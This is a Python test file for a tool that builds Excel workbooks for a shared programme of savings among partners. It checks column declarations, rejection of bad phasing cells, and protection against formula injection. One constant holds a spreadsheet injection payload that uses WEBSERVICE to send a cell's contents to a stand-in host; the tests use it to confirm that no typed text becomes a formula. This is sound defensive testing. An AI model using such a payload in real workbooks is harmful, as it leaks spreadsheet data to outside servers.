"""The input table declarations drive every surface, and no typed text becomes part of a formula.

* A column added to one declaration appears in the template, is read from a return, appears in the
  model workbook and is read by the add-in's conversion. A value typed in a column no domain field
  takes is kept: it is appended to the row's note as ``Header: value``.
* A programme whose every text field holds a formula-injection string gives a model workbook in
  which no formula contains any of it (issue 10).
"""

from __future__ import annotations

import dataclasses
import re
from decimal import Decimal as D
from pathlib import Path

import openpyxl
import pytest
from jwaddin.convert import excel_value, programme_from_tables
from openpyxl.worksheet.formula import ArrayFormula

from jwmodel.conditions import Condition, Joins
from jwmodel.consolidation import consolidate
from jwmodel.excel.build_workbooks import HAMPSHIRE_SETUP, hampshire_submissions
from jwmodel.excel.model_workbook import write_model_workbook
from jwmodel.excel.reading import read_submission
from jwmodel.excel.templates import write_workstream_proposal
from jwmodel.layout import input_tables
from jwmodel.model import (
    ApportionmentRule,
    BaselineEntry,
    Category,
    ControlTotal,
    DriverValue,
    Method,
    OneOffCost,
    OneOffType,
    ParticipationOption,
    Partner,
    Programme,
    Range,
    SavingLine,
    ServiceArea,
)
from jwmodel.submissions import SourceRecord, Status
from jwmodel.tables import Column, Kind, inputs

RISK = Column("risk", "Risk rating", Kind.TEXT, help="A throwaway column for the test")


@pytest.fixture
def risk_column(monkeypatch):
    """The saving lines declaration with one more optional column before its notes."""
    columns = inputs.SAVING_LINES.columns
    notes = inputs.SAVING_LINES.keys.index("note")
    patched = dataclasses.replace(inputs.SAVING_LINES, columns=(*columns[:notes], RISK, *columns[notes:]))
    monkeypatch.setattr(inputs, "SAVING_LINES", patched)
    return patched


def _table_columns(path: Path, sheet: str, table: str) -> tuple[openpyxl.Workbook, list[str], str]:
    wb = openpyxl.load_workbook(path)
    t = wb[sheet].tables[table]
    return wb, [c.name for c in t.tableColumns], t.ref


def test_a_column_added_to_one_declaration_appears_in_every_surface(risk_column, tmp_path):
    _, proposals = hampshire_submissions()
    proposal = next(p for p in proposals if p.saving_lines)
    # the template
    path = write_workstream_proposal(tmp_path / "proposal.xlsx", HAMPSHIRE_SETUP, proposal)
    wb, headers, _ = _table_columns(path, "Saving lines", "SavingLinesTable")
    assert headers[headers.index("Notes") - 1 :][:2] == ["Risk rating", "Notes"]
    # the reader: a value typed in it reaches the line, kept in its note
    col = headers.index("Risk rating") + 1
    wb["Saving lines"].cell(inputs.HEADER_ROW + 2, col, "high")
    wb.save(tmp_path / "typed.xlsx")
    read, record = read_submission(tmp_path / "typed.xlsx")
    assert record.status != Status.REJECTED, record.findings
    first = read.saving_lines[0]
    assert first.note.endswith("Risk rating: high")
    assert first.estimate == proposal.saving_lines[0].estimate
    assert [x.note for x in read.saving_lines[1:]] == [x.note for x in proposal.saving_lines[1:]]
    # the model workbook
    programme = Programme(partners=HAMPSHIRE_SETUP.partners, saving_lines=read.saving_lines)
    model = write_model_workbook(tmp_path / "model.xlsx", programme, consolidate(programme))
    _, model_headers, _ = _table_columns(model, "Saving lines", "SavingLinesTable")
    assert "Risk rating" in model_headers and model_headers[0] == "Service area"
    # the add-in's conversion: a value in the column is kept in the note
    (table,) = [t for t in input_tables(programme, consolidate(programme)) if t.sheet == "Saving lines"]
    rows = [list(table.headers), *([excel_value(v) for v in r] for r in table.rows)]  # as Excel sends them
    rows[1][table.headers.index("Risk rating")] = "low"
    converted, _ = programme_from_tables(savings=rows)
    assert converted.saving_lines[0].note == f"{first.note}; Risk rating: low"
    assert converted.saving_lines[0].estimate == first.estimate


def test_without_the_column_a_note_is_read_unchanged(tmp_path):
    _, proposals = hampshire_submissions()
    proposal = next(p for p in proposals if p.saving_lines)
    path = write_workstream_proposal(tmp_path / "proposal.xlsx", HAMPSHIRE_SETUP, proposal)
    read, _ = read_submission(path)
    assert [x.note for x in read.saving_lines] == [x.note for x in proposal.saving_lines]


# --- issue 10: nothing typed becomes a formula ------------------------------------------------

INJECTION = 'Time spent")+0*LEN(WEBSERVICE("http://x.invalid/?q="&\'Read me\'!B6))+N("'
MARKERS = ("WEBSERVICE", "x.invalid", "Time spent")


def hostile(tag: str) -> str:
    return f"{INJECTION}{tag}"


def hostile_programme() -> Programme:
    """Every text field holds the injection string (partner codes, names, services, options,
    drivers, descriptions, notes, basis), with every split method in use."""
    a, b = hostile("A"), hostile("B")
    partners = (Partner(a, hostile("name A")), Partner(b, hostile("name B")))
    services = [hostile(f"service {m.name}") for m in (Method.BASELINE, Method.DRIVER, Method.FIXED)]
    driver = hostile("driver")
    rules = (
        ApportionmentRule(Method.BASELINE),
        ApportionmentRule(Method.DRIVER, driver=driver),
        ApportionmentRule(Method.FIXED, {a: D(60), b: D(40)}),
    )
    baseline = tuple(
        BaselineEntry(p.code, s, D(100 + 10 * i), D(3), D(110 + 10 * i), D(10), hostile("note"))
        for i, p in enumerate(partners)
        for s in services
    )
    return Programme(
        partners=partners,
        services=tuple(
            ServiceArea(s, (ParticipationOption(hostile(f"option {i}"), (a, b), rule, True),))
            for i, (s, rule) in enumerate(zip(services, rules, strict=True))
        ),
        baseline=baseline,
        control_totals=(ControlTotal(a, D(1), D(1)), ControlTotal(b, None, D(6))),
        saving_lines=tuple(
            SavingLine(
                s,
                hostile("description"),
                Category.CASHABLE_STAFFING,
                Range(D(-10), D(-20)),
                b,
                Condition(Joins(a)),
                hostile("n"),
            )
            for s in services
        ),
        one_off_costs=tuple(
            OneOffCost(s, hostile("cost"), OneOffType.IT, Range(D(5), D(6)), hostile("n"), sole_bearer=a)
            for s in services
        ),
        drivers=(
            DriverValue(services[1], driver, a, D(30), hostile("basis")),
            DriverValue(services[1], driver, b, D(70), hostile("basis")),
        ),
    )


def test_no_formula_in_the_model_workbook_holds_any_text_a_partner_typed(tmp_path):
    programme = hostile_programme()
    result = consolidate(programme)
    assert {r.service for r in result.apportionment if r.in_use and r.shares} >= set(
        s.name for s in programme.services[:2]
    )  # the baseline and driver splits were computed, so the Shares sheet has weight formulas
    sources = (SourceRecord(hostile("file.xlsx"), "0" * 64, "partner return", Status.ACCEPTED, hostile("taken")),)
    path = write_model_workbook(tmp_path / "model.xlsx", programme, result, sources)
    wb = openpyxl.load_workbook(path)
    formulas = texts = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value.text if isinstance(cell.value, ArrayFormula) else cell.value
                if isinstance(value, str) and (cell.data_type == "f" or isinstance(cell.value, ArrayFormula)):
                    formulas += 1
                    assert not any(m in value for m in MARKERS), f"{ws.title}!{cell.coordinate}: {value}"
                elif isinstance(value, str) and INJECTION in value:
                    texts += 1
                    assert cell.data_type == "s", f"{ws.title}!{cell.coordinate} is not text"
    weights = [
        c.value for c in wb["Shares"]["F"] + wb["Shares"]["G"] if isinstance(c.value, str) and "SUMPRODUCT" in c.value
    ]
    assert len(weights) == 4  # two partners' weights for the baseline and the driver splits
    assert formulas >= 20 and texts >= 30


# --- imports that show the design -------------------------------------------------------------


def _imports(path: Path) -> set[str]:
    import ast

    found = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import):
            found.update(a.name for a in node.names)
        elif isinstance(node, ast.ImportFrom):
            found.add(node.module or "")
    return found


def test_the_writer_imports_no_example_and_the_addin_no_writer_internals():
    root = Path(__file__).resolve().parents[2]
    writer = _imports(root / "jwmodel" / "excel" / "model_workbook.py")
    assert not any(m.startswith("jwmodel.examples") for m in writer)
    for name in ("convert.py", "functions.py", "scripts.py"):
        assert "jwmodel.excel.model_workbook" not in _imports(root / "addin" / "jwaddin" / name), name
    for name in ("layout.py", "tables/inputs.py"):
        assert not any(m.startswith(("jwmodel.excel", "jwaddin")) for m in _imports(root / "jwmodel" / name)), name


@pytest.mark.libreoffice
def test_names_that_look_like_patterns_are_matched_as_they_are_after_libreoffice_recalculates(tmp_path, libreoffice):
    """SUMIFS would read 'Legal*' as 'anything starting Legal' and '<5' as a comparison; the
    weights and sums must take each service's own rows only."""
    import python_calamine

    from jwmodel.excel.libreoffice import resave

    services = ("Legal*", "Legal services", "<5", "=5")
    partners = (Partner("AA", "A"), Partner("BB", "B"))
    baseline = tuple(
        BaselineEntry(p.code, s, D(100 * (i + 1) + 7 * j), D(1))
        for i, p in enumerate(partners)
        for j, s in enumerate(services)
    )
    programme = Programme(
        partners=partners,
        services=tuple(
            ServiceArea(s, (ParticipationOption("Both", ("AA", "BB"), ApportionmentRule(Method.BASELINE), True),))
            for s in services
        ),
        baseline=baseline,
        saving_lines=tuple(
            SavingLine(s, "line", Category.CASHABLE_STAFFING, Range(D(-10 - j), D(-20 - j)))
            for j, s in enumerate(services)
        ),
    )
    path = write_model_workbook(tmp_path / "model.xlsx", programme, consolidate(programme))
    (theirs,) = resave([path], tmp_path / "lo")
    shares = python_calamine.CalamineWorkbook.from_path(str(theirs)).get_sheet_by_name("Shares").to_python()
    rows = {r[0]: r for r in shares[4:] if r and r[0] in services}
    assert set(rows) == set(services)
    for j, s in enumerate(services):
        assert rows[s][5:7] == [100 + 7 * j, 200 + 7 * j], s  # each partner's own baseline for that service only
        assert rows[s][9] == -10 - j, s  # the service's recurring low: its own line only


@pytest.mark.parametrize(
    ("sheet", "header", "typed", "code"),
    [
        ("Saving lines", "Start year", "2013/15", "BAD_YEAR"),
        ("Saving lines", "Ramp (% of full year, by year)", "50, half", "BAD_PERCENTAGES"),
        ("One-off costs", "Year", "13/14", "BAD_YEAR"),
        ("One-off costs", "Timing (% by year)", "60, 30", "BAD_PERCENTAGES"),
    ],
)
def test_a_bad_phasing_cell_is_found_at_its_cell_by_the_reader_and_refused_by_the_addin(
    tmp_path, sheet, header, typed, code
):
    from jwaddin._runtime import FunctionInputError

    _, proposals = hampshire_submissions()
    proposal = next(p for p in proposals if p.saving_lines and p.one_off_costs)
    path = write_workstream_proposal(tmp_path / "proposal.xlsx", HAMPSHIRE_SETUP, proposal)
    wb, headers, _ = _table_columns(path, sheet, "SavingLinesTable" if sheet == "Saving lines" else "OneOffCostsTable")
    cell = wb[sheet].cell(inputs.HEADER_ROW + 2, headers.index(header) + 1, typed)
    wb.save(tmp_path / "typed.xlsx")
    _, record = read_submission(tmp_path / "typed.xlsx")
    assert record.status == Status.REJECTED
    assert [(f.code, f.where.sheet, f.where.cell) for f in record.findings if f.code == code] == [
        (code, sheet, cell.coordinate)
    ]
    programme = Programme(
        partners=HAMPSHIRE_SETUP.partners, saving_lines=proposal.saving_lines, one_off_costs=proposal.one_off_costs
    )
    (table,) = [t for t in input_tables(programme, consolidate(programme)) if t.sheet == sheet]
    rows = [list(table.headers), *([excel_value(v) for v in r] for r in table.rows)]
    rows[1][table.headers.index(header)] = typed
    with pytest.raises(FunctionInputError, match=re.escape(header)):
        programme_from_tables(**{"savings" if sheet == "Saving lines" else "one_off": rows})
